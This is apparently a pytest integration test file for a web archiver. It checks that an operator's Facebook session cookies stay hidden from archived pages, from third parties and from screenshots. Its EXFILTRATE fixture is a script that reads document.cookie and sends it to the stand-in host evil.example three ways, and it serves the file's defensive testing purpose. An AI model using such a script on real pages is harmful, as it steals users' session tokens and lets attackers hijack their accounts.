"""The operator's platform session cannot be read by the page being archived.

A page on www.facebook.com reads ``document.cookie`` and sends what it finds to a third
party (in the query string, plain and base64), and writes it into the page. With the
session given to Chromium's cookie jar (as before), the cookies reached the third party
and the screenshot. Now they are added on the wire, for Facebook's hosts only: the page
sees none of them, the third party receives none, Facebook still gets them all.
"""

from __future__ import annotations

import base64
import secrets
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from archiver.capture.browser import BrowserPool
from archiver.capture.session import OperatorSession, load_session
from tests.integration.browser_capture.conftest import SimwebFetch, deadline, needs_chromium
from tests.simweb import SimulatedWeb

pytestmark = [pytest.mark.slow, needs_chromium]

XS = "47%3A" + secrets.token_urlsafe(24)
C_USER = "1000" + str(secrets.randbelow(10**11)).zfill(11)

EXFILTRATE = """<title>Post</title><p id=out>cookies:</p>
<script>
  const jar = document.cookie;
  document.getElementById('out').textContent = 'cookies: ' + jar;
  new Image().src = 'https://evil.example/steal?c=' + encodeURIComponent(jar);
  fetch('https://evil.example/b64?d=' + btoa(jar));
  navigator.sendBeacon && navigator.sendBeacon('https://evil.example/beacon', jar);
</script>"""


def _session(tmp_path: Path) -> OperatorSession:
    # As a browser extension exports them: not HttpOnly, so a jar would show them to JS.
    lines = ["# Netscape HTTP Cookie File"]
    for name, value in (("c_user", C_USER), ("xs", XS)):
        lines.append(f".facebook.com\tTRUE\t/\tTRUE\t0\t{name}\t{value}")
    path = tmp_path / "cookies.txt"
    path.write_text("\n".join(lines) + "\n", "utf-8")
    return load_session(path)


def _forms(value: str) -> list[str]:
    return [value, quote(value, safe=""), base64.b64encode(value.encode()).decode()[:12]]


async def test_page_cannot_read_or_send_the_session(
    simweb: SimulatedWeb,
    fetch: SimwebFetch,
    make_pool: Callable[..., BrowserPool],
    tmp_path: Path,
) -> None:
    session = _session(tmp_path)
    simweb.page("https://www.facebook.com/groups/1/posts/2/", EXFILTRATE)
    simweb.page("https://static.xx.fbcdn.net/a.css", "p{}", content_type="text/css")
    for path in ("/steal", "/b64", "/beacon"):
        simweb.page(f"https://evil.example{path}", "ok")
    async with make_pool(browser_concurrency=1) as pool:
        result = await pool.capture_page(
            "https://www.facebook.com/groups/1/posts/2/",
            fetch,
            deadline=deadline(),
            operator_session=session,
        )

    # Facebook got the session on the wire...
    facebook = [r for r in fetch.requests if r.url.startswith("https://www.facebook.com/")]
    assert facebook and all(
        f"xs={XS}" in (r.header("cookie") or "")
        and f"c_user={C_USER}" in (r.header("cookie") or "")
        for r in facebook
    )
    # ...nobody else did, in any form, and the page never saw them.
    others = [r for r in fetch.requests if not r.url.startswith("https://www.facebook.com/")]
    assert any(r.url.startswith("https://evil.example/") for r in others)
    sent_elsewhere = " ".join(
        f"{r.url} {r.headers} {r.post_body.decode('latin-1')}" for r in others
    )
    for value in (XS, C_USER):
        assert not [f for f in _forms(value) if f in sent_elsewhere]
    assert result.dom_html is not None
    dom = result.dom_html.decode()
    assert "cookies:" in dom and XS not in dom and C_USER not in dom


async def test_session_cookie_set_by_the_site_stays_off_the_page(
    simweb: SimulatedWeb,
    fetch: SimwebFetch,
    make_pool: Callable[..., BrowserPool],
    tmp_path: Path,
) -> None:
    """Facebook refreshing the token (Set-Cookie: xs=..., not HttpOnly) does not put it in
    the page's reach; the site's other cookies still work as a reader's browser has them."""
    session = _session(tmp_path)
    fresh = secrets.token_urlsafe(24)
    simweb.page(
        "https://www.facebook.com/story.php",
        "<title>Story</title><p id=out></p>"
        "<script>document.getElementById('out').textContent = 'jar=' + document.cookie</script>",
        headers=[
            ("Set-Cookie", f"xs={fresh}; Path=/; Secure"),
            ("Set-Cookie", "locale=en_GB; Path=/; Secure"),
        ],
    )
    async with make_pool(browser_concurrency=1) as pool:
        result = await pool.capture_page(
            "https://www.facebook.com/story.php", fetch, deadline=deadline(),
            operator_session=session,
        )  # fmt: skip
    assert result.dom_html is not None
    dom = result.dom_html.decode()
    assert "locale=en_GB" in dom
    assert fresh not in dom and XS not in dom


async def test_screenshot_withheld_when_the_page_shows_a_session_value(
    simweb: SimulatedWeb,
    fetch: SimwebFetch,
    make_pool: Callable[..., BrowserPool],
    tmp_path: Path,
) -> None:
    """A server that echoes the cookie into the visible page: the screenshot and the PDF
    would show it, so they are withheld, and the result says why."""
    session = _session(tmp_path)
    simweb.page(
        "https://www.facebook.com/echo",
        f"<title>Echo</title><h1>Your token is {XS}</h1>",
    )
    async with make_pool(browser_concurrency=1) as pool:
        result = await pool.capture_page(
            "https://www.facebook.com/echo", fetch, deadline=deadline(), operator_session=session
        )
    assert result.screenshot_png is None and result.pdf is None
    assert any("withheld" in line and "session" in line for line in result.limits_hit)
    assert result.dom_html is not None  # scrubbed later, by the platform step
